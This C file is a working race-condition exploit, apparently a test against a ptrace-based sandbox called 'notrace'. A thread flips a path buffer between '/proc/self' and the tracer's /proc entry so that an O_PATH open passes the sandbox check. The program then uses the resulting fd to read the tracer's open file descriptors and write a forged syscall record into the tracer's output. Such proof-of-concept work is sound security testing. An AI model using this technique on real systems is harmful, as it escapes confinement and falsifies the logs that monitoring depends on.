// O_PATH opens are checked, then let through (the kernel reads the path
// again): flipping the buffer between "/proc/self" and "/proc/<notrace>"
// gives the tracee an O_PATH fd of notrace's own /proc directory, which
// notrace's walk would refuse. Used as a dirfd, its magic links (cwd, fd/N
// of files) are then followed for the tracee.
// usage: opathrace [-o-file-notrace-writes]
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static char buf[64];
static char a[64], b[64];
static volatile int stop;
static void *flip(void *x) {
    (void)x;
    while (!stop) { memcpy(buf, a, sizeof a); memcpy(buf, b, sizeof b); }
    return NULL;
}
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    snprintf(a, sizeof a, "/proc/self");
    snprintf(b, sizeof b, "/proc/%d", getppid());
    memcpy(buf, a, sizeof a);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    time_t end = time(NULL) + 10;
    int got = -1; long n = 0;
    while (time(NULL) < end && got < 0) {
        int fd = open(buf, O_PATH | O_DIRECTORY);
        n++;
        if (fd < 0) continue;
        char p[64], tgt[256] = {0};
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        readlink(p, tgt, sizeof tgt - 1);
        if (!strcmp(tgt, b)) got = fd; else close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    if (got < 0) { printf("opathrace: no fd of %s after %ld tries\n", b, n); return 0; }
    printf("opathrace: O_PATH fd of notrace's %s after %ld tries\n", b, n);
    for (int i = 0; i < 16; i++) {
        char p[32], tgt[256] = {0};
        snprintf(p, sizeof p, "fd/%d", i);
        int r = readlinkat(got, p, tgt, sizeof tgt - 1);
        if (r > 0) printf("opathrace: notrace fd %d -> %s\n", i, tgt);
    }
    int w = openat(got, "fd/1", O_WRONLY | O_APPEND);
    printf("opathrace: openat(notrace dir, fd/1, O_WRONLY) = %s\n", w >= 0 ? "ok" : strerror(errno));
    if (w >= 0) dprintf(w, "FORGED: openat(AT_FDCWD, \"/x\", O_RDONLY) = 3\n");
    return 1;
}
